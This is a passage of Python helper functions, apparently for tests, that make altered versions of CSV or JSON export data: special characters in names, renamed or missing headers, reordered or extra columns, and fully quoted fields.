    for row in rows:
        row.update({target.fields[role]: value for role, value in values.items()})
    return target.written(rows, content)


def _in_name(target: Target, content: bytes, mark: str, *, quoted: bool = True) -> bytes:
    """One name with a mark in it, as an exporter would write it or, not quoted, as one would that knows nothing of quotes."""
    rows = target.rows(content)
    rows[1][target.fields["name"]] = f"An{mark}na" if quoted else "AnMARKna"
    written = target.written(rows, content)
    if quoted and target.form != "csv":  # as the character itself, where JSON allows it
        escaped = json.dumps(mark)[1:-1].encode()
        return written.replace(b"An" + escaped, b"An" + mark.encode()) if mark not in "\f\x1c\0" else written
    return written if quoted else target.encoded(target.text(written).replace("MARK", mark))


def _header(target: Target, content: bytes, change: Callable[[str], str]) -> bytes:
    out = io.StringIO()
    rows = list(csv.reader(io.StringIO(target.text(content), newline=""), delimiter=target.delimiter))
    csv.writer(out, delimiter=target.delimiter, lineterminator="\n").writerows([[change(name) for name in rows[0]], *rows[1:]])
    return target.encoded(out.getvalue())


def _without(target: Target, content: bytes, role: str) -> bytes:
    return target.written([{k: v for k, v in row.items() if k != target.fields[role]} for row in target.rows(content)], content)


def _reordered(target: Target, content: bytes, dice: Random) -> bytes:
    rows = target.rows(content)
    names = dice.sample(list(rows[0]), len(rows[0]))
    return target.written([{name: row[name] for name in names} for row in rows], content)


def _widened(target: Target, content: bytes, more: int) -> bytes:
    first, *rest = _split(target, target.written(target.rows(content)[:3], content))
    names = target.delimiter.join(f"c{n}" for n in range(more))
    return _joined(target, [f"{first}{target.delimiter}{names}", *(line + target.delimiter * more for line in rest)])


def _quoted(target: Target, content: bytes) -> bytes:
    out, rows = io.StringIO(), target.rows(content)
    writer = csv.DictWriter(out, list(rows[0]), delimiter=target.delimiter, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    return target.encoded(out.getvalue())
